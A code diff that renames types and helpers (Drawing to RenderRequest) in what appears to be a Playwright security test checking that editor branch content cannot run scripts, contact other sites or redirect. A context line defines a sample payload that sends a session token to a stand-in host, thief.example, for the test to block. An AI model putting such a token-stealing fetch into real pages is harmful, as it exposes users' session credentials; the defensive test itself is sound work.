@@ -1,7 +1,7 @@
 import type {Root, RootContent} from 'mdast';
-import type {Drawing} from '../../src/editor/protocol';
+import type {RenderRequest} from '../../src/editor/protocol';
 import {siteNow} from './editor-site';
-import {drawingOf} from '../../src/editor/state/render-request';
+import {renderRequestOf} from '../../src/editor/state/render-request';
 import {expect, overlook, test} from './test';
 
 const THEFT = "fetch('https://thief.example/?' + sessionStorage.getItem('edit.token'))";
@@ -53,7 +53,7 @@ const CONTENTS: Record<string, RootContent> = {
 };
 
 test('No content of a branch runs code, speaks to another site or leads away', async ({page, watch}) => {
-  const drawn = drawingOf(await siteNow(), '/about');
+  const drawn = renderRequestOf(await siteNow(), '/about');
   if (!drawn) throw new Error('The page /about cannot be drawn.');
   const blocked: string[] = [];
   page.on('requestfailed', (request) => {
@@ -67,10 +67,10 @@ test('No content of a branch runs code, speaks to another site or leads away', a
       type: 'root',
       children: [content, {type: 'paragraph', children: [{type: 'text', value: name}]}],
     };
-    const drawing: Drawing = {...drawn, body, path: `/${name.replaceAll(' ', '-')}`};
+    const request: RenderRequest = {...drawn, body, path: `/${name.replaceAll(' ', '-')}`};
     await page.evaluate(
       (reported) => window.postMessage({kind: 'draw', drawing: reported}, window.location.origin),
-      drawing as never,
+      request as never,
     );
     await page.getByText(name, {exact: true}).waitFor();
     const found = await page.locator('main').evaluate((main) => {
